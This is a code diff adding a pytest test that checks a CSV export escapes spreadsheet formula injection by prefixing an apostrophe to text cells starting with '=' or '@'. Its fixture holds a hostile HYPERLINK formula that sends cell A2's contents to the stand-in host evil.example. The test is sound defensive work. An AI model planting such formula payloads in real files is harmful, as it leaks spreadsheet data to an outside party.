@@ -188,6 +188,24 @@ def _archived_rows(served: Served) -> list[tuple[str, int, list[float]]]:
     ]
 
 
+@pytest.mark.pure
+def test_a_csv_export_never_holds_a_formula(tmp_path: Path) -> None:
+    """A caller's X-Request-Id (or an admin's feature name) starting with '=' reached the CSV
+    as a cell a spreadsheet runs as a formula (found by hand). Text cells that could start
+    one get a leading apostrophe; numbers, negative ones too, are written as they are."""
+    from models.export import _csv
+
+    out = tmp_path / "x.csv"
+    rows = [{"request_id": '=HYPERLINK("http://evil.example/?"&A2,"click")', "=f": -1.5},
+            {"request_id": "@SUM(A1)", "=f": 2.0}, {"request_id": "plain", "=f": None}]  # fmt: skip
+    assert _csv(out, ["request_id", "=f"], iter([rows])) == 3
+    with out.open(newline="") as f:
+        read = list(csv.reader(f))
+    assert read == [["request_id", "'=f"],
+                    ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "-1.5"],
+                    ["'@SUM(A1)", "2.0"], ["plain", ""]]  # fmt: skip
+
+
 @pytest.mark.parametrize("fmt", ["parquet", "csv"])
 def test_export_round_trip(served: Served, fmt: str, tmp_path: Path) -> None:
     out = tmp_path / f"slice.{fmt}"
